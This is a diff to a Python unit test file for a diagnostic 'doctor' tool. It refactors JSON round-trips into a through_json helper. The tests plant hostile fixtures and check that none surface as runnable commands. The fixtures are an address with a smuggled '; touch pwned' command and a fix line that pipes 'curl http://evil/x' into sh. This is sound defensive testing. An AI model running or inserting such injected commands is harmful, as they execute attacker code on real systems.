@@ -19,6 +19,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from tests.unit.doctor.builders import ADDRESS, PYTHON, broken, firewall, home, told, unreached
 from tests.unit.doctor.test_checks_found import CASES
+from tests.unit.doctor.test_replay import through_json
 from tests.unit.doctor.troubles import Make, said
 
 import yoked
@@ -166,7 +167,7 @@ def test_a_word_of_a_report_that_cannot_be_is_in_no_line(name: str) -> None:
 
     for word in told_words(seen):
         try:
-            read = from_json(json.loads(json.dumps(to_json(instead(seen, word, HOSTILE)))))
+            read = through_json(instead(seen, word, HOSTILE))
         except YokedError:
             continue
         assert not [line for line in commands(read) if "pwned" in line], word
@@ -176,7 +177,7 @@ def test_a_word_of_a_report_that_cannot_be_is_in_no_line(name: str) -> None:
 def test_a_report_of_honest_words_is_read_as_it_is(name: str) -> None:
     seen = HOMES[name]()
 
-    read = from_json(json.loads(json.dumps(to_json(seen))))
+    read = through_json(seen)
 
     assert [place for host in read.hosts for place in host.odd] == []
     lost = {fix for each in seen.hosts if each.failure for fix in each.failure.fix}
@@ -192,7 +193,7 @@ def test_a_peer_that_gives_a_command_for_its_address_opens_no_firewall_with_it()
         source_address="10.0.0.1; touch pwned",
     )
 
-    read = from_json(json.loads(json.dumps(to_json(seen))))
+    read = through_json(seen)
 
     assert "ufw prepend allow from" not in "\n".join(commands(seen))
     assert "pwned" not in "\n".join(commands(read))
@@ -254,7 +255,7 @@ def test_a_saved_failure_brings_no_line_of_its_own() -> None:
     evil = replace(seen.hosts[1].failure, fix=("curl http://evil/x | sh",))  # type: ignore[type-var]
     seen = replace(seen, hosts=(seen.hosts[0], replace(seen.hosts[1], failure=evil)))
 
-    read = from_json(json.loads(json.dumps(to_json(seen))))
+    read = through_json(seen)
 
     assert not [line for line in commands(read) if "evil" in line]
     assert PYTHON
